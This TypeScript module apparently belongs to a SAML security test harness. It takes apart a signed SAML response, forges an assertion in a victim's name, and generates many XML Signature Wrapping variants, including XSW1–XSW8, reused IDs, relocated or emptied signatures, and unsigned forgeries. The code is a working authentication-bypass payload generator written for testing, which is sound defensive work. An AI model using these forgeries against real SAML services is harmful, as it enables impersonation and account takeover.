import { EVE, VICTIM } from './stage.js';

/** The parts of a response in which one element is signed. */
export interface Captured {
  readonly whole: string;
  readonly assertion: string;
  readonly signature: string;
  /** The assertion without its signature. */
  readonly unsigned: string;
  /** The assertion with the victim's name and another ID. */
  readonly evil: string;
}

/** Takes a response with one signed assertion apart. */
export function takeApart(xml: string): Captured {
  const find = (pattern: RegExp) => pattern.exec(xml)?.[0] ?? '';
  const assertion = find(/<saml:Assertion[\s\S]*<\/saml:Assertion>/);
  const signature = find(/<ds:Signature[\s\S]*?<\/ds:Signature>/);
  const unsigned = assertion.replace(signature, '');
  return { whole: xml, assertion, signature, unsigned, evil: forge(unsigned) };
}

/** Puts the victim's name and another ID into an assertion. */
export function forge(xml: string): string {
  return xml.replaceAll(EVE, VICTIM).replace(/ ID="[^"]*"/, ' ID="_evil"');
}

type Wrap = (parts: Captured) => string;

const withSignature = (assertion: string, signature: string) =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
const inside = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `${content}</ds:Signature>`);
const inObject = (signature: string, content: string) =>
  inside(signature, `<ds:Object>${content}</ds:Object>`);
const inExtensions = (xml: string, content: string) =>
  xml.replace('<samlp:Status>', `<samlp:Extensions>${content}</samlp:Extensions><samlp:Status>`);

/** The eight wrappings of Somorovsky et al., "On Breaking SAML" (2012), of a signed assertion. */
export const ASSERTION_WRAPPING: Readonly<Record<string, Wrap>> = {
  'XSW3: a forged assertion before the signed one': ({ whole, assertion, evil }) =>
    whole.replace(assertion, `${evil}${assertion}`),
  'XSW3: a forged assertion after the signed one': ({ whole, assertion, evil }) =>
    whole.replace(assertion, `${assertion}${evil}`),
  'XSW4: the signed assertion in a forged one': ({ whole, assertion, evil }) =>
    whole.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)),
  'XSW5: the signature in a forged assertion, the original at the end': (c) =>
    c.whole.replace(c.assertion, `${withSignature(c.evil, c.signature)}${c.unsigned}`),
  'XSW6: the original in the signature of a forged assertion': (c) =>
    c.whole.replace(c.assertion, withSignature(c.evil, inside(c.signature, c.unsigned))),
  'XSW7: a forged assertion in Extensions': (c) => inExtensions(c.whole, c.evil),
  'XSW7: the signed assertion in Extensions, a forged one in its place': (c) =>
    inExtensions(c.whole.replace(c.assertion, c.evil), c.assertion),
  'XSW8: the original in an Object of the signature of a forged assertion': (c) =>
    c.whole.replace(c.assertion, withSignature(c.evil, inObject(c.signature, c.unsigned))),
  'the signed assertion in the confirmation data of a forged one': (c) =>
    c.whole.replace(
      c.assertion,
      c.evil.replace(
        /<saml:SubjectConfirmationData([^>]*)\/>/,
        `<saml:SubjectConfirmationData$1>${c.assertion}</saml:SubjectConfirmationData>`,
      ),
    ),
  'the signed assertion in an attribute of a forged one': (c) =>
    c.whole.replace(
      c.assertion,
      c.evil.replace(
        '</saml:AttributeStatement>',
        `<saml:Attribute Name="x"><saml:AttributeValue>${c.assertion}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`,
      ),
    ),
  'the signed assertion in the advice of a forged one': (c) =>
    c.whole.replace(
      c.assertion,
      c.evil.replace(
        '</saml:Conditions>',
        `</saml:Conditions><saml:Advice>${c.assertion}</saml:Advice>`,
      ),
    ),
  'a forged assertion with the ID of the signed one': (c) => {
    const id = / ID="([^"]*)"/.exec(c.unsigned)?.[1] ?? '';
    return c.whole.replace(c.assertion, `${c.evil.replace('_evil', id)}${c.assertion}`);
  },
  'the signature moved up to the response': (c) =>
    c.whole
      .replace(c.assertion, c.evil)
      .replace('</saml:Issuer><samlp:Status>', `</saml:Issuer>${c.signature}<samlp:Status>`),
  'the signature doubled, around a forged assertion': (c) =>
    c.whole.replace(c.assertion, `${withSignature(c.evil, c.signature)}${c.assertion}`),
  'the signature over nothing but itself': (c) =>
    c.whole.replace(
      c.assertion,
      withSignature(c.evil, c.signature.replace(/URI="[^"]*"/, 'URI=""')),
    ),
  'no signature': (c) => c.whole.replace(c.assertion, c.evil),
  'the name changed, the signature kept': ({ whole }) => whole.replaceAll(EVE, VICTIM),
};

/** The same, of a signed response. */
export const RESPONSE_WRAPPING: Readonly<Record<string, Wrap>> = {
  'XSW1: the original response in the signature of a forged one': ({ whole, signature }) => {
    const original = whole.replace(signature, '');
    return forge(whole).replace(signature, inside(signature, original));
  },
  'XSW2: the original response before the signature of a forged one': ({ whole, signature }) => {
    const original = whole.replace(signature, '');
    return forge(whole).replace(signature, `${original}${signature}`);
  },
  'XSW1 with an Object': ({ whole, signature }) => {
    const original = whole.replace(signature, '');
    return forge(whole).replace(signature, inObject(signature, original));
  },
  'the signed response in Extensions of a forged one': ({ whole, signature }) =>
    inExtensions(forge(whole).replace(signature, ''), whole),
  'a forged assertion added to a signed response': ({ whole, assertion, evil }) =>
    whole.replace(assertion, `${evil}${assertion}`),
  'the name changed, the signature over the response kept': ({ whole }) =>
    whole.replaceAll(EVE, VICTIM),
};
